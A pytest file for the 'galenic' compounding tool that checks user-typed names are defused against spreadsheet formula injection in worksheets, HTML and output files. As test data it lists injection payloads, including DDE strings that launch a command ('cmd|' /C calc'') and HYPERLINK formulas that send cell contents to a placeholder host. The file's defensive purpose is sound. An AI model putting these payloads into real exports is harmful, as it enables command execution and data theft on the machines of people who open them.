"""Names that a spreadsheet would work out: text in all that galenic writes, data as it was typed.

A cell is worked out where it begins with ``=``, ``+``, ``-``, ``@`` or their wide forms. Cells of a
worksheet are what stands apart by two spaces or more, since it may be opened by its columns.
"""

from __future__ import annotations

import json
import re
import tomllib
from html.parser import HTMLParser
from importlib.resources import files

import pytest

import galenic
from galenic import _cli as cli
from galenic._show.inert import inert

HOSTILE = (
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    '=HYPERLINK("x.invalid/"&A1)',
    "-1 + cmd|' /C calc'!A0",
    "-1 % + cmd|' /C calc'!A0",
    "-1 (cmd|' /C calc'!A0)",
    "-1, cmd|' /C calc'!A0",
    '-1;HYPERLINK("x.invalid/"&A1)',
    "-1:HYPERLINK(A1)",
    "-1 (Sheet2!A1)",
    "+1 A1",
    "+1",
    "-1.2.3",
)
SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
OURS = re.compile(
    r"=+|-|[0-9.]+( ?%)?( [A-Za-z].*)?|-[0-9]+(\.[0-9]+)?( ?%)?( [^|!(]*)?|- .*|\+ [0-9(].*"
)
"""Rules, bullets and numbers of the worksheet itself, none of which names a command."""


@pytest.fixture(params=HOSTILE)
def name(request):
    """What somebody typed for a name."""
    return request.param


def order_of(name):
    """An order in which every name is that one, or begins with it."""
    text = files("galenic").joinpath("examples/triturate.toml").read_text(encoding="utf-8")
    told = tomllib.loads(text)
    told["order"]["active"] = told["stock"]["active"] = name
    told["stock"] |= {"lot": name, "diluent": name}
    told["filler"] |= {"name": f"{name} filler", "lot": name}
    told["capsule"]["maker"] = name
    told["balance"][0]["name"] = name
    told["excipient"][0]["name"] = f"{name} excipient, which has so long a name that it is {name}"
    return told


class Cells(HTMLParser):
    """The texts of the cells, headings and paragraphs of a page."""

    def __init__(self, page):
        """Read the whole page."""
        super().__init__()
        self.texts = [""]
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        """A cell begins."""
        del attrs
        if tag not in {"strong", "small", "style"}:
            self.texts.append("")

    def handle_data(self, data):
        """Text of the cell."""
        self.texts[-1] += data


def begun(text):
    """The cells of a worksheet that begin like a formula and are none of our own."""
    cells = [cell for line in text.splitlines() for cell in re.split(r" {2,}", line)]
    return [cell for cell in cells if cell[:1] in SIGNS and cell and not OURS.fullmatch(cell)]


def formulas(page):
    """The cells of a page that begin like a formula."""
    texts = [text.strip() for text in Cells(page).texts]
    return [text for text in texts if text[:1] in SIGNS and text and not OURS.fullmatch(text)]


def test_nothing_that_is_shown_begins_like_a_formula(name):
    """A plan, its order, the way to its numbers, and two plans side by side."""
    plan = galenic.plan(order_of(name))
    steps = [plan.explain(step) for step in dict.fromkeys(step.name for step in plan.steps)]
    for made in (plan, plan.order, *plan.notices, *steps, galenic.compare(plan, plan)):
        assert begun(str(made)) == []
        assert formulas(made._repr_html_()) == []
    assert f"'{name}" in str(plan)


def test_the_finders_of_these_tests_find(name):
    """Both would see the name where it stood bare."""
    assert begun(f"  stock       {name}")
    assert formulas(f"<table><tr><td>{name.replace('<', '')}</td></tr></table>")


def test_a_refusal_is_inert_too(name):
    """Names of keys that there are not come back in it."""
    with pytest.raises(galenic.InputError) as caught:
        galenic.plan({name: 1, "order": {name: 1}})
    assert formulas(caught.value._repr_html_()) == []


def test_a_file_that_is_written_is_inert_and_json_is_as_typed(tmp_path, capsys, name):
    """``--output``: the worksheet for people; JSON is read back, and holds what was typed."""
    path = tmp_path / "order.json"
    path.write_text(json.dumps(order_of(name), default=str), encoding="utf-8")
    for words in (["plan"], ["capacity"], ["plan", "--explain", "filler"]):
        told = [words[0], str(path), *words[1:], "--output", str(tmp_path / "out"), "--force"]
        assert cli.main(told) in {0, 1, 2}
        if (tmp_path / "out").exists():
            assert begun((tmp_path / "out").read_text(encoding="utf-8")) == []
    capsys.readouterr()
    assert cli.main(["plan", str(path), "--json", "--output", str(tmp_path / "plan.json")]) == 0
    plan = galenic.read_plan(tmp_path / "plan.json")
    assert plan.order.active == name
    assert plan.rows("lots")[0]["lot"] == name
    assert plan.to_dict()["input"]["stock"]["lot"] == name


@pytest.mark.parametrize("text", HOSTILE)
def test_what_begins_like_a_formula_is_text(text):
    """Behind an apostrophe, also after spaces."""
    assert inert(text) == f"'{text}"
    assert inert(f" {text}") == f"' {text}"
    assert inert(text, goes_on=True) == f"'{text}"


@pytest.mark.parametrize(
    "text",
    ["-5", "-0.5 %", "-3 mg", "-0.5 mg to 2 mg", "-1.5", "-", "-12 % of the label (95 %)", "5 = 5",
     "naltrexone", "a=1", "1-2", "", "'=1+1", "-0.3%", "+", "-2 %: less (of 4)"],
)  # fmt: skip
def test_numbers_and_names_stay_as_they_are(text):
    """A number below nothing is a number in a spreadsheet too."""
    assert inert(text) == text
